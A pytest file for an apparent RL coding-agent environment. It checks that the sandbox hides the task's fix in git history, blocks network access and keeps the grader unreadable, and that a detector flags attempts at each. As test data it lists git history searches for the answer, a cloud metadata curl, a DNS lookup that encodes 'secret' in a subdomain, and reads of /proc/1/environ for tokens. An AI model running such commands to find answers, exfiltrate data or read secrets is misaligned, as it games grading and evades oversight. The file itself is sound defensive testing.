"""The fix is not to be found: not in the repository, not on the network, not with the grader."""

import subprocess

import pytest

from swe_rl.env.cheating.attempts import cheating_attempts
from swe_rl.env.history import hide_history
from swe_rl.env.patch import collect_patch

SECRET = "return a + b  # the fix"
SEARCHES = [
    "git log --all -p",
    "git log -g -p; git reflog",
    "git show v2.0",
    "git stash list; git stash show -p",
    "git notes show v2.0; git for-each-ref",
    "git fsck --lost-found --unreachable; "
    "for o in $(ls .git/lost-found/other .git/lost-found/commit); do git show $o; done",
    "git cat-file --batch-all-objects --batch",
    "git diff HEAD origin/main; git diff HEAD..refs/pull/1/head",
    "cat .git/packed-refs .git/logs/HEAD .git/ORIG_HEAD .git/FETCH_HEAD",
    "git worktree list; cat .git/worktrees/*/HEAD",
    "grep -rh 'the fix' .git/logs .git/refs .git/packed-refs",
    "git grep 'the fix' $(git rev-list --all)",
]


@pytest.fixture
def with_future(victim):
    """The victim's repository with its fix in every place that git has."""

    def git(*arguments, check=True):
        identity = ["-c", "user.name=a", "-c", "user.email=a@b"]
        return subprocess.run(
            ["git", *identity, "-C", victim.folder, *arguments], check=check, capture_output=True, text=True
        )

    code = victim.folder / "victim" / "__init__.py"
    old = code.read_text()
    code.write_text(old.replace("return a - b", SECRET))
    git("commit", "-qam", "the fix")
    for ref in ("refs/tags/v2.0", "refs/remotes/origin/main", "refs/pull/1/head", "refs/heads/future"):
        git("update-ref", ref, "HEAD")
    git("notes", "add", "-m", SECRET)
    git("reset", "-q", "--hard", victim.instance.base_commit)
    code.write_text(old.replace("return a - b", SECRET + " again"))
    git("stash", "-q")
    git("remote", "add", "origin", "https://example.org/victim.git")
    git("pack-refs", "--all")
    return victim


async def test_nothing_of_the_fix_is_left(with_future, sandboxes):
    base = with_future.instance.base_commit
    sandbox = await sandboxes.create(with_future.workspace, owner="agent")
    before = await sandbox.exec("git log --all -p", timeout_s=30)
    assert SECRET in before.output  # else this test shows nothing
    tip = await hide_history(sandbox, base, 60)
    for search in SEARCHES:
        done = await sandbox.exec(search, timeout_s=30)
        assert "the fix" not in done.output.replace("'the fix'", ""), (search, done.output)
        assert cheating_attempts([search], "", with_future.instance).get("git_history"), search
    assert tip == base
    status = await sandbox.exec("git status --porcelain; git diff --stat " + base, timeout_s=30)
    assert status.output == ""
    await sandbox.exec("sed -i 's/a - b/a + b/' victim/__init__.py; git commit -qam x", timeout_s=30)
    assert "+    return a + b" in (await collect_patch(sandbox, tip, 30)).text
    await sandbox.close()


@pytest.mark.parametrize("ancestors", [True, False])
async def test_what_the_image_changed_is_no_part_of_the_patch(with_future, sandboxes, ancestors):
    sandbox = await sandboxes.create(with_future.workspace, owner="agent")
    await sandbox.exec(
        "chmod 777 victim/*.py; echo x >> conftest.py; git commit -qam SWE-bench; echo built > egg", timeout_s=30
    )
    tip = await hide_history(sandbox, with_future.instance.base_commit, 60, ancestors=ancestors)
    await sandbox.exec("echo '# mine' >> victim/__init__.py", timeout_s=30)
    patch = (await collect_patch(sandbox, tip, 30)).text
    assert (
        "+# mine" in patch
        and "conftest" not in patch
        and "egg" not in patch
        and "mode" not in patch.replace("100755", "")
    )
    past = await sandbox.exec(
        f"git checkout {with_future.instance.base_commit} conftest.py && cat conftest.py", timeout_s=30
    )
    assert past.exit_code == 0 and "x" not in past.output.splitlines()
    await sandbox.close()


async def test_a_base_that_has_only_a_name_keeps_it(victim, sandboxes):
    """A tree whose real commit cannot be made goes by `refs/replace`."""
    name = "1234567890" * 4
    sandbox = await sandboxes.create(victim.workspace, owner="agent")
    await sandbox.exec(f"git update-ref refs/replace/{name} HEAD", timeout_s=30)
    for _ in range(2):  # also of what was hidden before
        tip = await hide_history(sandbox, name, 60)
        shown = await sandbox.exec(f"git diff --stat {name}; git checkout {name} tests/test_victim.py", timeout_s=30)
        assert shown.exit_code == 0, shown.output
    await sandbox.exec("echo '# mine' >> victim/__init__.py", timeout_s=30)
    assert (
        "+# mine" in (await collect_patch(sandbox, tip, 30)).text
        and "+# mine" in (await collect_patch(sandbox, name, 30)).text
    )
    await sandbox.close()


@pytest.mark.parametrize(
    ("command", "kinds"),
    [
        ("timeout 5 curl -sS https://pypi.example/simple/victim/", {"network", "release_download"}),
        ("timeout 5 curl -sS http://169.254.169.254/latest/meta-data/", {"network"}),
        ("python -c \"import socket; socket.getaddrinfo('c2VjcmV0.example.org', 53)\"", set()),
        (
            "timeout 20 python -m pip download --no-deps --timeout 2 --retries 0 victim==2.0",
            {"network", "release_download"},
        ),
        ("timeout 5 git clone https://github.com/victim/victim /tmp/v", {"network", "release_download", "git_history"}),
        ("python -c \"import urllib.request as u; u.urlopen('http://1.1.1.1', timeout=3)\"", {"network"}),
    ],
)
async def test_there_is_no_network(victim, agent, command, kinds):
    _, attempts, outputs = await agent(f"{command} && echo REACHED")
    assert "REACHED" not in outputs[0]
    assert kinds <= set(attempts)


@pytest.mark.slow
async def test_the_grader_leaves_nothing_in_an_agents_sandbox(victim, agent, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "canary")
    _, attempts, outputs = await agent(
        "find / -path /proc -prune -o -path /sys -prune -o -name '*swe_rl_*' -print 2>/dev/null; "
        "ls /eval.sh /tmp/patch.diff",
        "cat /proc/1/environ | tr '\\0' '\\n'",
    )
    assert "grade" not in outputs[0].replace("grading", "") and attempts["grader_read"] == 2
    assert "canary" not in outputs[1] and "TOKEN" not in outputs[1]
